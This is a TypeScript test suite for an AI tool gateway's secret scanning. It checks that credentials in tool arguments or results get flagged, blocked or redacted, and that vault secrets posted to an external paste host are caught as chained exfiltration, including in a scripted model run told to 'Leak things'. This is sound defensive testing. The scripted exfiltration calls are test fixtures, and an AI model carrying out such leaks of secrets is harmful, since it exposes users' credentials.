import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import OpenAI from 'openai';
import { FakeChatServer } from '../bench/support/fake-chat-server';
import { bearer, startApp, TestApp } from './support/app';
import { memberKey } from './support/catalog';
import { addGuardedTools, startGuardedToolServer, VAULT_SECRET } from './support/guarded-tools';
import type { MutableMcpServer } from './support/mcp-servers';

const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE';
const DEPLOY_TOKEN = 'dpl-7f3K9qL2xV8mW4nB6cZ1';

/** Secrets in arguments and results, at the catalog defaults (formats flagged, stored values blocked). */
describe('call-time secret scanning', () => {
  let t: TestApp;
  let server: MutableMcpServer;
  let upstream: FakeChatServer;
  let ids: Record<string, string>;
  let acme: string;
  const call = (name: string, args: unknown, key = acme) =>
    t.http.post('/v1/tool_calls').set(bearer(key)).send({ name, arguments: args }).expect(200);
  const auditOf = async (callId: string) => {
    const res = await t.http.get('/v1/tools/audit?limit=100&order=desc').set(bearer(t.adminKey)).expect(200);
    return (res.body.data as { call_id: string }[]).find((record) => record.call_id === callId) as Record<
      string,
      unknown
    >;
  };

  beforeAll(async () => {
    server = await startGuardedToolServer();
    upstream = await FakeChatServer.start();
    t = await startApp('pglite', {
      config: { builtins: { file_search: { enabled: false } }, engine: { upstream: { url: upstream.url } } },
    });
    ids = await addGuardedTools(t, server);
    acme = await memberKey(t, 'acme');
    await t.http
      .put('/v1/tenants/acme/credentials/deploy_token')
      .set(bearer(t.adminKey))
      .send({ value: DEPLOY_TOKEN })
      .expect(200);
  }, 120_000);
  afterAll(async () => {
    await t?.close();
    await server?.stop();
    await upstream?.close();
  });
  beforeEach(() => t.http.put(`/v1/tools/${ids['ops-echo']}`).set(bearer(t.adminKey)).send({ argument_scan: null }));

  it('flags a credential format in the arguments (flag), audited by kind and path, the value stored redacted', async () => {
    const res = await call('ops-echo', { text: `my key is ${AWS_KEY}, keep it` });
    expect(res.body.status).toBe('completed');
    expect(res.body.metadata.guard_findings).toContainEqual({
      check: 'secret_in_arguments',
      kind: 'aws_access_key',
      path: 'arguments.text',
      action: 'flagged',
    });
    const record = await auditOf(res.body.call_id);
    expect(record.guard_findings).toContainEqual(
      expect.objectContaining({ kind: 'aws_access_key', action: 'flagged' }),
    );
    expect(JSON.stringify(record)).not.toContain(AWS_KEY);
  });

  it('refuses the call when the tool says block: denied, secret_in_arguments, path and kind, never the value', async () => {
    await t.http
      .put(`/v1/tools/${ids['ops-echo']}`)
      .set(bearer(t.adminKey))
      .send({ argument_scan: 'block' })
      .expect(200);
    const res = await call('ops-echo', { text: `-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA${'x'.repeat(40)}` });
    expect(res.body).toMatchObject({
      status: 'denied',
      output: null,
      error: { code: 'secret_in_arguments', message: expect.stringContaining("'arguments.text'") },
    });
    expect(res.body.error.message).toContain('private_key');
    expect(JSON.stringify(res.body)).not.toContain('MIIEowIBAAKCAQEA');
    const record = await auditOf(res.body.call_id);
    expect(record).toMatchObject({ status: 'denied', error: expect.stringContaining('secret_in_arguments') });
    expect(JSON.stringify(record)).not.toContain('MIIEowIBAAKCAQEA');
    expect(record.input_args).toEqual({ text: '[REDACTED:private_key]' });
  });

  it('does not scan when the tool says off', async () => {
    await t.http.put(`/v1/tools/${ids['ops-echo']}`).set(bearer(t.adminKey)).send({ argument_scan: 'off' }).expect(200);
    const res = await call('ops-echo', { text: DEPLOY_TOKEN });
    expect(res.body.status).toBe('completed');
    const findings = (res.body.metadata?.guard_findings ?? []) as { check: string }[];
    expect(findings.filter((finding) => finding.check === 'secret_in_arguments')).toEqual([]);
  });

  it("blocks a stored credential's value anywhere in the arguments by default, naming the credential, not the value", async () => {
    const res = await call('ops-send-email', { to: 'a@acme.com', body: `deploy with ${DEPLOY_TOKEN} tonight` });
    expect(res.body).toMatchObject({ status: 'denied', error: { code: 'secret_in_arguments' } });
    expect(res.body.metadata.guard_findings).toContainEqual({
      check: 'secret_in_arguments',
      kind: 'stored_credential',
      path: 'arguments.body',
      action: 'blocked',
      source: 'credential:deploy_token',
    });
    expect(JSON.stringify(res.body)).not.toContain(DEPLOY_TOKEN);
    expect(JSON.stringify(await auditOf(res.body.call_id))).not.toContain(DEPLOY_TOKEN);
    // Another tenant does not hold that value: its call is not refused for it.
    const other = await call(
      'ops-send-email',
      { to: 'a@globex.com', body: `deploy with ${DEPLOY_TOKEN}` },
      await memberKey(t, 'globex'),
    );
    expect(other.body.status).toBe('completed');
  });

  it('flags a secret in a result (flag) without changing it', async () => {
    const res = await call('ops-echo', { text: 'ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8' });
    expect(res.body.metadata.guard_findings).toContainEqual(
      expect.objectContaining({ check: 'secret_in_result', kind: 'github_token', action: 'flagged' }),
    );
  });

  it('flags a value out of a secret_access result that a network_external tool then sends out (same caller)', async () => {
    await call('ops-vault-read', { name: 'db' });
    const res = await call('ops-http-post', { url: 'https://paste.example/new', body: `dump: ${VAULT_SECRET}` });
    expect(res.body.status).toBe('completed');
    expect(res.body.metadata.guard_findings).toContainEqual({
      check: 'chained_exfiltration',
      kind: 'chained_leak',
      path: 'arguments.body',
      action: 'flagged',
      source: 'result:ops-vault-read',
    });
  });

  it('guards /mcp the same: a blocked call is a tool error naming the path', async () => {
    const client = new Client({ name: 'guards-test', version: '1.0.0' });
    await client.connect(
      new StreamableHTTPClientTransport(new URL(`${t.baseUrl}/mcp`), {
        requestInit: { headers: { Authorization: `Bearer ${acme}` } },
      }),
    );
    const result = await client.callTool({
      name: 'ops-send-email',
      arguments: { to: 'x@acme.com', body: DEPLOY_TOKEN },
    });
    await client.close();
    expect(result.isError).toBe(true);
    const text = (result.content as { text: string }[])[0].text;
    expect(text).toContain('arguments.body');
    expect(text).not.toContain(DEPLOY_TOKEN);
  });

  it('guards /v1/responses: a stored credential blocked, a value of an earlier result flagged within the run', async () => {
    upstream.reset();
    upstream.script(
      { toolCalls: [{ name: 'ops-send-email', arguments: JSON.stringify({ to: 'a@acme.com', body: DEPLOY_TOKEN }) }] },
      { toolCalls: [{ name: 'ops-vault-read', arguments: '{"name":"db"}' }] },
      {
        toolCalls: [
          { name: 'ops-http-post', arguments: JSON.stringify({ url: 'https://paste.example', body: VAULT_SECRET }) },
        ],
      },
      { text: 'done' },
    );
    const client = new OpenAI({ baseURL: `${t.baseUrl}/v1`, apiKey: acme, maxRetries: 0 });
    const response = await client.responses.create({
      model: 'any',
      input: 'Leak things',
      tools: [
        {
          type: 'mcp',
          server_label: 'ops',
          allowed_tools: ['send_email', 'vault_read', 'http_post'],
          require_approval: 'never',
        },
      ],
    });
    expect(response.output[0]).toMatchObject({ type: 'mcp_call', error: expect.stringContaining('arguments.body') });
    // The model is told why, without the value.
    expect(JSON.stringify(upstream.requests[1].body.messages.at(-1))).toContain('secret_in_arguments');
    expect(JSON.stringify(upstream.requests.slice(1).map((r) => r.body.messages.at(-1)))).not.toContain(DEPLOY_TOKEN);
    const audit = await t.http.get(`/v1/tools/audit?response_id=${response.id}`).set(bearer(t.adminKey)).expect(200);
    const byTool = Object.fromEntries(
      (audit.body.data as { tool_name: string; status: string }[]).map((record) => [record.tool_name, record]),
    );
    expect(byTool['ops-send-email']).toMatchObject({ status: 'denied' });
    expect(byTool['ops-http-post']).toMatchObject({
      status: 'success',
      guard_findings: [expect.objectContaining({ check: 'chained_exfiltration', action: 'flagged' })],
    });
    expect(JSON.stringify(audit.body)).not.toContain(DEPLOY_TOKEN);
  });

  it('counts findings in the metrics', async () => {
    const metrics = await t.http.get('/metrics').expect(200);
    expect(metrics.text).toMatch(
      /toolgate_guard_findings_total\{check="secret_in_arguments",kind="stored_credential",action="blocked"\} [1-9]/,
    );
  });
});

/** The other modes: results redacted, chained leaks blocked, formats blocked catalog-wide. */
describe('call-time secret scanning, strict catalog', () => {
  let t: TestApp;
  let server: MutableMcpServer;
  let acme: string;
  const call = (name: string, args: unknown) =>
    t.http.post('/v1/tool_calls').set(bearer(acme)).send({ name, arguments: args }).expect(200);

  beforeAll(async () => {
    server = await startGuardedToolServer();
    t = await startApp('pglite', {
      config: {
        builtins: { file_search: { enabled: false } },
        catalog: { argument_scan: 'block', result_secret_scan: 'redact', chained_exfiltration: 'block' },
      },
    });
    await addGuardedTools(t, server);
    acme = await memberKey(t, 'acme');
  }, 120_000);
  afterAll(async () => {
    await t?.close();
    await server?.stop();
  });

  it('redacts a secret in a result before the caller sees it', async () => {
    const res = await call('ops-read-config', {});
    expect(res.body.output.content[0].text).toBe('config: [REDACTED:connection_string]/app');
    expect(res.body.metadata.guard_findings).toContainEqual(
      expect.objectContaining({ check: 'secret_in_result', kind: 'connection_string', action: 'redacted' }),
    );
  });

  it('blocks a chained leak and a credential format (block)', async () => {
    await call('ops-vault-read', { name: 'db' });
    const leak = await call('ops-http-post', { url: 'https://paste.example/new', body: VAULT_SECRET });
    expect(leak.body).toMatchObject({ status: 'denied', error: { code: 'chained_exfiltration' } });
    expect(JSON.stringify(leak.body)).not.toContain(VAULT_SECRET);
    const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';
    const format = await call('ops-http-post', { url: 'https://api.example/x', body: jwt });
    expect(format.body).toMatchObject({ status: 'denied', error: { code: 'secret_in_arguments' } });
  });
});
